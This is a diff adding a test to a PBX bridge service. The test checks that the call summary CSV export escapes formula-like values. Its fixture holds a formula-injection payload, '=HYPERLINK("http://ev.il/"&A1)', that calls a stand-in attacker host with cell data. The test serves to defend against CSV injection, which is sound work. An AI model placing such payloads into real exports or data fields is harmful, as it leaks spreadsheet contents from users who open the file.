@@ -162,3 +162,18 @@ async def test_metrics(api: Api) -> None:
     assert "pbx_bridge_call_pipeline_event_lag_seconds_sum 7.043" in text
     # Each app has its own registry: a second one starts from zero.
     assert "pbx_bridge_http_request_duration_seconds_count" not in Metrics().exposition().decode()
+
+
+async def test_summary_csv_never_writes_a_formula(api: Api) -> None:
+    """Issue 18: a DID (it comes from the trunk) that looks like a formula is exported as text."""
+    hostile = '=HYPERLINK("http://ev.il/"&A1)'  # calls.did holds 32 characters
+    async with api.runtime.engine.begin() as conn:
+        await insert_call(conn, did=hostile)
+        await insert_call(conn, minutes=1, did="@SUM(1+1)")
+    resp = await api.client.get("/api/v1/reports/summary", headers=api.auth("manager"),
+                                params={**RANGE, "group_by": "did", "format": "csv"})
+    assert resp.status == 200
+    rows = list(csv.reader(io.StringIO(await resp.text())))
+    groups = [r[0] for r in rows[1:]]
+    assert "'" + hostile in groups and "'@SUM(1+1)" in groups
+    assert not [g for g in groups if g[:1] in ("=", "+", "-", "@", "\t", "\r")]
